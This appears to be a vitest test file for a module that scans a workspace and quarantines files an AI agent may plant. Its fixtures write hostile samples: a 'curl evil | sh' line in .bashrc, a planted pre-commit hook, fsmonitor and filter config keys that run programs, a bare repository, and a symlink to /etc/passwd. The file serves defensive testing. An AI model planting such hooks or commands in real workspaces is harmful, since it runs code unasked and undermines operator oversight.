import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { dangerousConfigLines, neutralize, scanProtected } from "../../src/sessions/protected-paths.js";

function repo(): { ws: string; quarantine: string } {
  const dir = mkdtempSync(join(tmpdir(), "berth-protect-"));
  const ws = join(dir, "ws");
  mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
  mkdirSync(join(ws, ".git", "objects"));
  mkdirSync(join(ws, ".git", "refs"));
  writeFileSync(join(ws, ".git", "HEAD"), "ref: refs/heads/main\n");
  writeFileSync(join(ws, ".git", "config"), "[core]\n\tbare = false\n[user]\n\tname = op\n");
  writeFileSync(join(ws, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n");
  writeFileSync(join(ws, "README.md"), "hi\n");
  return { ws, quarantine: join(dir, "quarantine") };
}

describe("dangerousConfigLines", () => {
  it("finds the keys that run programs, in every spelling git reads", () => {
    expect(dangerousConfigLines("[core]\n\tfsmonitor = ./x\n\tbare = false\n")).toEqual(["core.fsmonitor=./x"]);
    expect(dangerousConfigLines("[CORE]\nHooksPath=/tmp/h")).toEqual(["core.hookspath=/tmp/h"]);
    expect(dangerousConfigLines('[filter "lfs"]\n  smudge = evil %f\n[diff "x"]\n textconv = sh')).toEqual(["filter.*.smudge=evil %f", "diff.*.textconv=sh"]);
    expect(dangerousConfigLines("[filter.lfs]\nclean = evil")).toEqual(["filter.*.clean=evil"]);
    expect(dangerousConfigLines("[core] sshCommand = ssh -oProxyCommand=x")).toEqual(["core.sshcommand=ssh -oProxyCommand=x"]);
    expect(dangerousConfigLines("[alias]\n st = !sh -c x\n[include]\npath = ../evil")).toEqual(["alias.st=!sh -c x", "include.path=../evil"]);
    expect(dangerousConfigLines("[user]\nname = x\n[core]\nautocrlf = true")).toEqual([]);
  });
});

describe("neutralize", () => {
  it("leaves an untouched workspace and ordinary edits alone", () => {
    const { ws, quarantine } = repo();
    const before = scanProtected(ws);
    writeFileSync(join(ws, "README.md"), "edited\n");
    writeFileSync(join(ws, ".git", "config"), "[core]\n\tbare = false\n[user]\n\tname = agent\n");
    expect(neutralize(ws, before, quarantine).items).toEqual([]);
  });

  it("quarantines a renamed .git with a planted hook, a gitdir file, a nested and a bare repo, dangerous config, new rc files; restores originals", () => {
    const { ws, quarantine } = repo();
    writeFileSync(join(ws, ".bashrc"), "# operator\n");
    const before = scanProtected(ws);
    // The agent's moves.
    renameSync(join(ws, ".git"), join(ws, "moved"));
    mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
    writeFileSync(join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\necho pwned\n", { mode: 0o755 });
    writeFileSync(join(ws, ".git", "config"), "[core]\n\tfsmonitor = ./evil.sh\n");
    writeFileSync(join(ws, ".bashrc"), "curl evil | sh\n");
    writeFileSync(join(ws, ".envrc"), "evil\n");
    mkdirSync(join(ws, "sub"));
    writeFileSync(join(ws, "sub", ".git"), "gitdir: ../moved\n");
    mkdirSync(join(ws, "vendor", "lib", ".git", "hooks"), { recursive: true });
    writeFileSync(join(ws, "vendor", "lib", ".git", "hooks", "post-checkout"), "evil");
    for (const d of ["bare/objects", "bare/refs", "bare/hooks"]) mkdirSync(join(ws, d), { recursive: true });
    writeFileSync(join(ws, "bare", "HEAD"), "ref: refs/heads/main\n");
    writeFileSync(join(ws, "bare", "config"), "[core]\n\tbare = true\n\tfsmonitor = evil\n");
    symlinkSync("/etc/passwd", join(ws, ".zshrc"));

    const { items } = neutralize(ws, before, quarantine);
    const paths = items.map((i) => i.path).sort();
    expect(paths).toEqual(
      [".bashrc", ".envrc", ".git/config", ".git/hooks/pre-commit", ".zshrc", "bare/config", "sub/.git", "vendor/lib/.git/hooks/post-checkout"].sort(),
    );
    expect(existsSync(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(join(ws, ".git", "config"), "utf8")).toContain("name = op"); // the original, restored
    expect(readFileSync(join(ws, ".bashrc"), "utf8")).toBe("# operator\n");
    expect(existsSync(join(ws, ".envrc"))).toBe(false);
    expect(existsSync(join(ws, "sub", ".git"))).toBe(false);
    expect(lstatSync(join(ws, ".zshrc"), { throwIfNoEntry: false })).toBeUndefined();
    // The link was moved as a link; what it pointed at is untouched.
    const q = items.find((i) => i.path === ".zshrc")!;
    expect(lstatSync(q.quarantinedAs).isSymbolicLink()).toBe(true);
    expect(readFileSync(items.find((i) => i.path === ".git/hooks/pre-commit")!.quarantinedAs, "utf8")).toContain("pwned");
    // The moved original repository is intact (its hooks are as they were).
    expect(readFileSync(join(ws, "moved", "hooks", "pre-commit.sample"), "utf8")).toBe("#!/bin/sh\n");
    // Idempotent: a second pass against a fresh snapshot finds nothing.
    expect(neutralize(ws, scanProtected(ws), quarantine).items).toEqual([]);
  });

  it("keeps what the session opted into (writablePaths)", () => {
    const { ws, quarantine } = repo();
    const exempt = new Set([".git/hooks", ".bashrc"]);
    const before = scanProtected(ws, exempt);
    writeFileSync(join(ws, ".git", "hooks", "pre-commit"), "mine");
    writeFileSync(join(ws, ".bashrc"), "mine");
    expect(neutralize(ws, before, quarantine, exempt).items).toEqual([]);
  });
});
